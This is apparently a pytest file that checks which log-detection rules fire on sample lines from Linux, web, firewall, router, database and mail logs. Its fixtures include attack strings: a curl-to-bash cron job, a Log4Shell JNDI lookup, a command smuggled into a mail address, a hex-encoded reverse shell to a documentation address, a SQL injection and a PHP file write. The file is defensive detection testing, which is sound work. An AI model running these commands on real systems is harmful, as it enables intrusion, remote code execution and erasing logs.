"""Log lines as machines write them, through the decoders, to the rules of ours that must fire."""

from collections import Counter
from datetime import UTC, datetime
from pathlib import Path

import pytest

from collectors.decoders import Hints, decode
from detectors.sigma import RuleSet

RULES = RuleSet.load(Path(__file__).parents[2] / "rules")
RECEIVED = datetime(2026, 11, 24, 5, 20, tzinfo=UTC)
HEADER = "Nov 24 05:17:44 srv01 "
WEB = '203.0.113.5 - - [24/Nov/2026:05:17:44 +0700] "{} HTTP/1.1" {} 512 "-" "{}"'


def stems(line: str) -> set[str]:
    """The rules that fire on a line, by the name of their file."""
    event = decode(line, Hints(syslog=line.startswith(HEADER)), RECEIVED)
    return {Path(rule.path).stem for rule in RULES.evaluate(event) if rule not in RULES.silent}


@pytest.mark.parametrize(
    ("line", "fires"),
    [
        (
            "sshd[24200]: Accepted password for root from 203.0.113.9 port 50022 ssh2",
            {"ssh_root_login_accepted"},
        ),
        ("sshd[24200]: Accepted publickey for lan from 10.1.2.3 port 50022 ssh2", set()),
        (
            "sshd[24200]: reverse mapping checking getaddrinfo for ns.example.com [203.0.113.31] "
            "failed - POSSIBLE BREAK-IN ATTEMPT!",
            set(),
        ),
        (
            "sudo:  huy : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/huy ; USER=root ; "
            "COMMAND=/usr/bin/cat /etc/shadow",
            {"sudo_not_in_sudoers"},
        ),
        (
            "sudo:  huy : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/id",
            {"sudo_wrong_password"},
        ),
        (
            "useradd[31]: new user: name=sys, UID=0, GID=0, home=/root, shell=/bin/bash, from=none",
            {"user_created", "user_with_uid_zero"},
        ),
        ("usermod[32]: add 'minh' to group 'sudo'", {"user_joins_admin_group"}),
        ("passwd[33]: pam_unix(passwd:chauthtok): password changed for root", {"root_password_changed"}),
        (
            "CRON[34]: (root) CMD (curl -fsSL http://203.0.113.7/i.sh | bash)",
            {"cron_downloads_and_runs"},
        ),
        ("CRON[34]: (root) CMD (/dev/shm/.kthread)", {"cron_runs_from_writable_folder"}),
        ("kernel: [ 12.1] device eth0 entered promiscuous mode", {"kernel_promiscuous_mode"}),
        (
            "kernel: [ 13.5] nginx[2201]: segfault at 0 ip 000055 sp 00007f error 4 in nginx[5+1]",
            {"network_service_crashed"},
        ),
        (
            "kernel: [UFW BLOCK] IN=eth0 OUT= SRC=203.0.113.9 DST=10.0.0.5 LEN=40 TTL=240 ID=1 "
            "PROTO=TCP SPT=40000 DPT=3389 WINDOW=1024 RES=0x00 SYN URGP=0",
            {"admin_port_from_outside"},
        ),
        (
            "kernel: [UFW BLOCK] IN=eth0 OUT= SRC=10.9.9.9 DST=10.0.0.5 LEN=40 TTL=240 ID=1 "
            "PROTO=TCP SPT=40000 DPT=3389 WINDOW=1024 RES=0x00 SYN URGP=0",
            set(),
        ),
        (
            "systemd[1]: Stopped auditd.service - Security Auditing Service.",
            {"security_service_stopped"},
        ),
    ],
)
def test_linux_lines(line: str, fires: set[str]) -> None:
    assert stems(HEADER + line) == fires


@pytest.mark.parametrize(
    ("request_line", "status", "agent", "fires"),
    [
        ("GET /tin?id=1%20UNION%20SELECT%201,2", 200, "sqlmap/1.8", {"sql_injection", "scanner_user_agent"}),
        ("POST /uploads/2026/a.php", 200, "Mozilla", {"script_in_upload_folder"}),
        ("GET /.env", 200, "curl", {"secret_file_read"}),
        ("GET /.env", 404, "curl", set()),
        ("GET /", 200, "${jndi:ldap://203.0.113.2/a}", {"log4shell"}),
        ("GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd", 404, "curl", {"path_traversal"}),
        ("GET /tin-tuc/thong-bao?trang=2", 200, "Mozilla", set()),
    ],
)
def test_web_lines(request_line: str, status: int, agent: str, fires: set[str]) -> None:
    assert stems(WEB.format(request_line, status, agent)) == fires


def test_device_lines() -> None:
    line = "CEF:0|Trend Micro|Deep Security|20|4000000|Trojan.Win32.Agent|8|src=10.0.0.1 act=block"
    assert stems(line) == {"device_reports_malware"}


FORTIGATE = (
    '<189>date=2026-11-24 time=05:17:44 devname="FG-BIEN" devid="FG100FTK20000001" eventtime=1795475864000000000 '
    'tz="+0700" type="event" vd="root" '
)


@pytest.mark.parametrize(
    ("line", "fires"),
    [
        (
            FORTIGATE + 'logid="0100044547" subtype="system" level="information" logdesc="Object attribute configured" '
            'user="admin" ui="GUI(10.0.0.9)" action="Add" cfgpath="system.admin" cfgobj="bk" '
            'cfgattr="accprofile[super_admin]" msg="Add system.admin bk"',
            {"firewall_admin_created"},
        ),
        (
            FORTIGATE + 'logid="0101039426" subtype="vpn" level="alert" logdesc="SSL VPN login fail" '
            'action="ssl-login-fail" remip=203.0.113.5 user="lan" reason="sslvpn_login_permission_denied" '
            'msg="SSL user failed to logged in"',
            {"vpn_log_in_failed"},
        ),
        (
            FORTIGATE + 'logid="0101039424" subtype="vpn" level="information" logdesc="SSL VPN tunnel up" '
            'action="tunnel-up" remip=203.0.113.5 user="lan.nguyen" msg="SSL tunnel established"',
            set(),
        ),
        (
            "<188>46: Nov 24 05:17:44: %SEC_LOGIN-4-LOGIN_FAILED: Login failed [user: admin] [Source: 203.0.113.5] "
            "[localport: 22] [Reason: Login Authentication Failed] at 05:17:44 UTC Tue Nov 24 2026",
            {"router_log_in_failed"},
        ),
        (
            "<189>47: Nov 24 05:17:44: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin  logged command:no logging host 10.0.0.9",
            {"device_log_sending_stopped"},
        ),
        (
            "<189>48: Nov 24 05:17:44: %LINEPROTO-5-UPDOWN: Line protocol on Interface Gi0/1, changed state to up",
            set(),
        ),
    ],
)
def test_lines_of_gateways_and_routers(line: str, fires: set[str]) -> None:
    assert stems(line) == fires


@pytest.mark.parametrize(
    ("line", "fires"),
    [
        (
            "2026-11-24 05:17:44.101 +07 [1234] portal@portal LOG:  statement: COPY t FROM PROGRAM 'id'",
            {"postgresql_runs_program"},
        ),
        ("2026-11-24 05:17:44.101 +07 [1234] portal@portal LOG:  statement: SELECT 1", set()),
        (
            HEADER + "postgres[1234]: [3-1] 2026-11-24 05:17:44.101 +07 [1234] a@b FATAL:  password authentication "
            'failed for user "a"',
            {"postgresql_log_in_refused"},
        ),
        (
            "2026-11-24T05:17:44.123456Z\t   12 Query\tSELECT '<?php x' INTO OUTFILE '/var/www/html/a.php'",
            {"mysql_writes_file"},
        ),
        (
            HEADER + "mariadbd[900]: 2026-11-24  5:17:44 12 [Warning] Access denied for user 'root'@'203.0.113.5' "
            "(using password: YES)",
            {"mysql_log_in_refused"},
        ),
        (
            "12345:M 24 Nov 2026 05:17:44.123 * REPLICAOF 203.0.113.5:6379 enabled (user request from 'id=3 "
            "addr=203.0.113.5:51234 laddr=10.0.0.5:6379 fd=8 name=')",
            {"redis_taken_over"},
        ),
        ("12345:M 24 Nov 2026 05:17:44.123 * Background saving terminated with success", set()),
    ],
)
def test_lines_of_databases(line: str, fires: set[str]) -> None:
    assert stems(line) == fires


@pytest.mark.parametrize(
    ("line", "fires"),
    [
        (
            "dovecot: imap-login: Disconnected (auth failed, 6 attempts in 42 secs): user=<lan>, method=PLAIN, "
            "rip=203.0.113.5, lip=10.0.0.25, TLS, session=<abc>",
            {"mail_password_guessed"},
        ),
        (
            "dovecot: lmtp(lan)<2211><xYz>: sieve: msgid=<1@bo.gov.vn>: forwarded to <lan.rieng@gmail.com>",
            {"mail_forwarded_to_private_mailbox"},
        ),
        (
            'postfix/smtpd[2222]: NOQUEUE: reject: RCPT from unknown[203.0.113.5]: 554 5.7.1 <"a$(curl${IFS}http://x)"@b>'
            ': Relay access denied; from=<a@x.example> to=<"a$(curl${IFS}http://x)"@b> proto=ESMTP helo=<x>',
            {"command_in_mail_address"},
        ),
        (
            "postfix/smtp[2223]: 4F1: to=<lan@so.gov.vn>, relay=mx.so.gov.vn[10.1.0.25]:25, delay=1, dsn=2.0.0, "
            "status=sent (250 OK)",
            set(),
        ),
    ],
)
def test_lines_of_mail_servers(line: str, fires: set[str]) -> None:
    assert stems(HEADER + line) == fires


@pytest.mark.parametrize(
    ("line", "fires"),
    [
        (
            "type=CONFIG_CHANGE msg=audit(1795475864.101:992): op=set audit_enabled=0 old=1 auid=1001 ses=3 res=1",
            {"linux_audit_weakened"},
        ),
        (
            HEADER + "sudo:  huy : TTY=pts/0 ; PWD=/home/huy ; USER=root ; COMMAND=/usr/bin/rm -f /var/log/auth.log",
            {"linux_logs_deleted"},
        ),
        (
            HEADER + "sudo:  huy : TTY=pts/0 ; PWD=/home/huy ; USER=root ; COMMAND=/usr/bin/systemctl stop rsyslog",
            {"linux_logging_stopped_by_command"},
        ),
        (
            HEADER + "sudo:  huy : TTY=pts/0 ; PWD=/home/huy ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx",
            set(),
        ),
        (HEADER + "systemd-journald[311]: Suppressed 48122 messages from nginx.service", {"log_messages_lost"}),
        (
            'type=EXECVE msg=audit(1795475864.101:993): argc=3 a0="bash" a1="-c" '
            "a2=62617368202D69203E26202F6465762F7463702F3230332E302E3131332E352F3434343420303E2631",
            {"reverse_shell"},
        ),
    ],
)
def test_lines_of_a_machine_that_is_tampered_with(line: str, fires: set[str]) -> None:
    assert stems(line) == fires


def test_real_ssh_log_alerts_on_the_few_lines_that_deserve_it(shared_data: Path) -> None:
    log = shared_data / "logs" / "OpenSSH" / "OpenSSH_2k.log"
    counts: Counter[str] = Counter()
    for line in log.read_text(encoding="utf-8").splitlines():
        event = decode(line, Hints(syslog=True), RECEIVED)
        counts.update(Path(rule.path).stem for rule in RULES.evaluate(event) if rule not in RULES.silent)
    assert counts == {"ssh_many_failures_one_connection": 11}
